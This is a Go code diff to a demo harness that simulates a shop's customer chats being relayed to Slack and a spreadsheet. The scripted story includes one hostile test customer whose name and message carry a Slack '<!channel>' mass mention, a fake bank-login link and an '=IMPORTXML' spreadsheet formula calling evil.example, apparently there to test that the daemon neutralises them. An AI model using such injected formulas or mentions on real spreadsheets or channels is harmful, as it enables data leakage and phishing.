@@ -21,6 +21,9 @@ type demoShop struct {
 	sheet   *sandbox.Spreadsheet
 	agent   *sandbox.Manager
 	before  int // happenings before the daemon's first look, which must send nothing
+
+	living bool            // Slack's messages follow their chats
+	chats  []*sandbox.Chat // of the story
 }
 
 // Tabs of the demo's spreadsheet.
@@ -69,7 +72,7 @@ name    = "cs-alerts"
 token   = {{.Token}}
 channel = {{.SlackChannel}}
 api_url = {{.APIURL}}
-{{.Lookups}}
+{{.Follow}}{{.Lookups}}
 
 [[sink.sheets]]
 name             = "inquiries"
@@ -124,7 +127,10 @@ func (s *demoShop) writeConfig(dir, path string) error {
 	for k, v := range values {
 		values[k] = strconv.Quote(v)
 	}
-	values["Lookups"] = demoLookups
+	values["Lookups"], values["Follow"] = demoLookups, ""
+	if s.living {
+		values["Follow"] = "follow  = true\n"
+	}
 	if err := demoConfig.Execute(f, values); err != nil {
 		return err
 	}
@@ -162,17 +168,17 @@ func (s *demoShop) story(ctx context.Context, w *demoWatcher) []func() {
 			w.say("홍길동 님이 문의합니다")
 			hong = s.channel.AddUser(sandbox.User{Name: "홍길동", Member: true,
 				Contact: sandbox.Contact{MobileNumber: "+821012345678", Email: "hong@example.com"}})
-			first = s.channel.OpenChat(hong, "배송이 아직 안 왔어요. 확인 부탁드려요.", sandbox.Opening{Page: "/orders/123", Tags: []string{"배송"}})
+			first = s.open(hong, "배송이 아직 안 왔어요. 확인 부탁드려요.", sandbox.Opening{Page: "/orders/123", Tags: []string{"배송"}})
 		},
 		func() {
 			w.say("김영희 님이 환불을 문의합니다")
 			kim := s.channel.AddUser(sandbox.User{Name: "김영희", Contact: sandbox.Contact{Email: "younghee@example.com"}})
-			s.channel.OpenChat(kim, "사이즈가 안 맞아서 환불하고 싶어요 🙏", sandbox.Opening{Page: "/products/77", Tags: []string{"환불"}, Assignee: s.agent})
+			s.open(kim, "사이즈가 안 맞아서 환불하고 싶어요 🙏", sandbox.Opening{Page: "/products/77", Tags: []string{"환불"}, Assignee: s.agent})
 		},
 		func() {
 			w.say("누군가 알림과 수식을 심어 보려 합니다")
 			bad := s.channel.AddUser(sandbox.User{Name: "<!channel> =1+2"})
-			s.channel.OpenChat(bad, "<!channel> 긴급! <https://evil.example|은행 로그인> =IMPORTXML(\"https://evil.example\")", sandbox.Opening{})
+			s.open(bad, "<!channel> 긴급! <https://evil.example|은행 로그인> =IMPORTXML(\"https://evil.example\")", sandbox.Opening{})
 		},
 		func() {
 			w.until(ctx, seen) // a number nobody had seen before has not changed
@@ -183,11 +189,12 @@ func (s *demoShop) story(ctx context.Context, w *demoWatcher) []func() {
 			w.say("Slack이 잠시 멈춥니다; 그사이 두 분이 문의합니다")
 			s.world.Slack.Down()
 			for _, name := range []string{"박민수", "佐藤花子"} {
-				s.channel.OpenChat(s.channel.AddUser(sandbox.User{Name: name}), "쿠폰이 적용되지 않아요", sandbox.Opening{})
+				s.open(s.channel.AddUser(sandbox.User{Name: name}), "쿠폰이 적용되지 않아요", sandbox.Opening{})
 			}
 		},
 		func() {
-			w.say("상담사가 홍길동 님께 답하고 종료합니다")
+			w.say("이상담 님이 홍길동 님의 상담을 맡아 답하고 종료합니다")
+			first.Assign(s.agent)
 			first.ManagerSays(s.agent, "오늘 도착 예정입니다.")
 			first.Close()
 		},
@@ -202,6 +209,13 @@ func (s *demoShop) story(ctx context.Context, w *demoWatcher) []func() {
 	}
 }
 
+// open opens a chat of which all that comes is to show.
+func (s *demoShop) open(u *sandbox.Customer, text string, o sandbox.Opening) *sandbox.Chat {
+	chat := s.channel.OpenChat(u, text, o)
+	s.chats = append(s.chats, chat)
+	return chat
+}
+
 var demoNames = []string{"최지우", "정우성", "한소희", "이강인", "윤아름", "田中太郎", "Gildong Hong"}
 var demoTexts = []string{"교환하고 싶어요", "영수증 부탁드립니다", "주문을 취소할 수 있나요?", "비밀번호를 잊었어요", "재입고 언제 되나요?", "안녕하세요"}
 
@@ -210,7 +224,7 @@ func (s *demoShop) chance(random *rand.Rand, w *demoWatcher) {
 	name := demoNames[random.IntN(len(demoNames))]
 	w.say(name + " 님이 문의합니다")
 	user := s.channel.AddUser(sandbox.User{Name: name, Contact: sandbox.Contact{MobileNumber: fmt.Sprintf("+82107%07d", random.IntN(1e7))}})
-	chat := s.channel.OpenChat(user, demoTexts[random.IntN(len(demoTexts))], sandbox.Opening{})
+	chat := s.open(user, demoTexts[random.IntN(len(demoTexts))], sandbox.Opening{})
 	if random.IntN(3) == 0 {
 		chat.Close()
 	}
